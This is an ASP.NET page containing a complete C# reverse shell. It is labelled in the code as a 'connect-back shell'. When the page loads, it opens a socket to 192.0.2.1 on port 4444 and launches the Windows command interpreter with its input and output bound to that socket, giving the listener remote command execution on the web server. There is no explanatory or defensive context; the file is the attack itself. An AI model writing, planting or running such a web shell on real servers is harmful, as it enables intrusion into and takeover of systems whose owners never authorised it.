<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    // connect-back shell in the native style: a Winsock socket becomes the child's console
    [StructLayout(LayoutKind.Sequential)]
    public struct STARTUPINFO
    {
        public int cb; public string lpReserved; public string lpDesktop; public string lpTitle;
        public uint dwX; public uint dwY; public uint dwXSize; public uint dwYSize;
        public uint dwXCountChars; public uint dwYCountChars; public uint dwFillAttribute;
        public uint dwFlags; public short wShowWindow; public short cbReserved2; public IntPtr lpReserved2;
        public IntPtr hStdInput; public IntPtr hStdOutput; public IntPtr hStdError;
    }
    [StructLayout(LayoutKind.Sequential)]
    public struct PROCESS_INFORMATION { public IntPtr hProcess; public IntPtr hThread; public uint dwProcessId; public uint dwThreadId; }
    internal struct sockaddr_in { public short sin_family; public short sin_port; public int sin_addr; public long sin_zero; }

    [DllImport("kernel32.dll")]
    static extern bool CreateProcess(string app, string cmdLine, IntPtr pa, IntPtr ta, bool inherit,
        uint flags, IntPtr env, string dir, [In] ref STARTUPINFO si, out PROCESS_INFORMATION pi);
    [DllImport("WS2_32.dll", CharSet = CharSet.Ansi, SetLastError = true)]
    internal static extern IntPtr WSASocket(AddressFamily af, SocketType st, ProtocolType pt, IntPtr info, uint g, int f);
    [DllImport("WS2_32.dll")]
    internal static extern int inet_addr(string cp);
    [DllImport("ws2_32.dll")]
    private static extern ushort htons(ushort port);
    [DllImport("WS2_32.dll", SetLastError = true)]
    internal static extern int connect(IntPtr s, ref sockaddr_in addr, int len);

    protected void Page_Load(object sender, EventArgs e)
    {
        IntPtr sock = WSASocket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.IP, IntPtr.Zero, 0, 0);
        sockaddr_in sa = new sockaddr_in();
        sa.sin_family = (short)AddressFamily.InterNetwork;
        sa.sin_addr = inet_addr("192.0.2.1");
        sa.sin_port = (short)htons(4444);
        connect(sock, ref sa, Marshal.SizeOf(sa));
        STARTUPINFO si = new STARTUPINFO();
        si.dwFlags = 0x00000101;
        si.hStdInput = sock;
        si.hStdOutput = sock;
        si.hStdError = sock;
        PROCESS_INFORMATION pi;
        CreateProcess(Environment.GetEnvironmentVariable("comspec"), "", IntPtr.Zero, IntPtr.Zero, true, 0, IntPtr.Zero, null, ref si, out pi);
    }
</script>
